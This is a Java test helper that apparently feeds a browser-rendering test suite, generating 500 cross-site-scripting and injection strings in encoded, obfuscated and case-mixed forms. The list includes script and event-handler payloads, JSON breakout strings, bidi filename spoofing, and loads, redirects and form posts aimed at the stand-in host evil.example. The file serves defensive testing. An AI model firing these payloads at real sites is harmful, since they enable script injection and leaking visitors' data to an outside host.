package news.stemma.browser;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.function.UnaryOperator;

/// Texts that would do something in a page that took them for more than text: set `window.taken`,
/// open a dialog, ask another host, break out of JSON, turn the order of letters.
final class Payloads {
  private static final String ACT = "window.taken=1;alert(1)";

  private static final List<String> VECTORS =
      List.of(
          "<script>" + ACT + "</script>",
          "</script><script>" + ACT + "</script>",
          "<script src=//evil.example/x.js></script>",
          "<img src=x onerror=\"" + ACT + "\">",
          "<img src=https://evil.example/pixel.png>",
          "<svg onload=" + ACT + ">",
          "<svg><animate onbegin=" + ACT + " attributeName=x dur=1s></svg>",
          "<svg><script>" + ACT + "</script></svg>",
          "<svg><a xlink:href=javascript:alert(1)><text>here</text></a></svg>",
          "<body onload=" + ACT + ">",
          "<details open ontoggle=" + ACT + ">more</details>",
          "<input autofocus onfocus=" + ACT + ">",
          "<iframe srcdoc=\"<script>parent.taken=1</script>\"></iframe>",
          "<iframe src=javascript:parent.taken=1></iframe>",
          "<object data=javascript:alert(1)></object>",
          "<embed src=https://evil.example/x.swf>",
          "<a href=\"javascript:" + ACT + "\">here</a>",
          "javascript:" + ACT,
          "java\tscript:" + ACT,
          "javascript&colon;alert(1)",
          "vbscript:msgbox(1)",
          "data:text/html,<script>parent.taken=1</script>",
          "https://evil.example/\" onmouseover=\"" + ACT,
          "\" onmouseover=\"" + ACT + "\" x=\"",
          "' autofocus onfocus='" + ACT + "' x='",
          "`onclick=" + ACT + "`",
          "${" + ACT + "}",
          "{{constructor.constructor('" + ACT + "')()}}",
          "<!--<script>" + ACT + "//-->",
          "--><script>" + ACT + "</script><!--",
          "<style>*{display:none}@import 'https://evil.example/x.css'</style>",
          "<link rel=stylesheet href=https://evil.example/x.css>",
          "<p style=\"background:url(https://evil.example/x.png);position:fixed\">over all</p>",
          "<base href=https://evil.example/>",
          "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
          "<form action=https://evil.example/><button>go</button></form>",
          "<math><mtext><table><mglyph><style><img src=x onerror=" + ACT + ">",
          "<template shadowrootmode=open><script>" + ACT + "</script></template>",
          "\"}],\"documents\":[],\"x\":[{\"y\":\"",
          "\\\"}\\u0000\\u2028',}]}//",
          "__proto__",
          "\u202Egnp.exe\u202C \u2067rtl\u2069 \u200F",
          "]]><script>" + ACT + "</script><![CDATA[",
          "#/articles/../../v1/stats?x=<script>" + ACT + "</script>");

  private static final List<UnaryOperator<String>> FORMS =
      List.of(
          vector -> vector,
          vector -> vector.toUpperCase(Locale.ROOT),
          Payloads::mixed,
          vector -> "\"'>" + vector,
          vector -> "Words before " + vector + " and after.",
          vector -> vector.replace("<", "&lt;").replace(">", "&gt;").replace(":", "&#58;"),
          vector -> URLEncoder.encode(vector, StandardCharsets.UTF_8),
          vector -> vector.replace("<", "\\u003c").replace("j", "\\x6a"),
          vector -> vector.replace("<", "<\u000B").replace("script", "scr\u0001ipt"),
          vector -> "\u202E" + vector + "\u202C\u0000\u0007\u001B[31m\u2028",
          vector -> vector.replace("<", "\uFF1C<").replace("a", "a\u0301"),
          vector -> "https://evil.example/?q=" + vector,
          vector -> "w".repeat(10_000) + vector);

  private Payloads() {}

  /// Five hundred, no two alike.
  static List<String> hostile() {
    Set<String> payloads = new LinkedHashSet<>();
    for (UnaryOperator<String> form : FORMS) {
      VECTORS.forEach(vector -> payloads.add(form.apply(vector)));
    }
    return new ArrayList<>(payloads).subList(0, 500);
  }

  /// The same without what opens or closes an element or a reference.
  static List<String> disarmed() {
    return hostile().stream()
        .map(text -> text.replace('<', '\u2039').replace('>', '\u203A').replace('&', '+'))
        .toList();
  }

  private static String mixed(String vector) {
    StringBuilder mixed = new StringBuilder();
    for (int i = 0; i < vector.length(); i++) {
      String letter = vector.substring(i, i + 1);
      mixed.append(i % 2 == 0 ? letter.toUpperCase(Locale.ROOT) : letter);
    }
    return mixed.toString();
  }
}
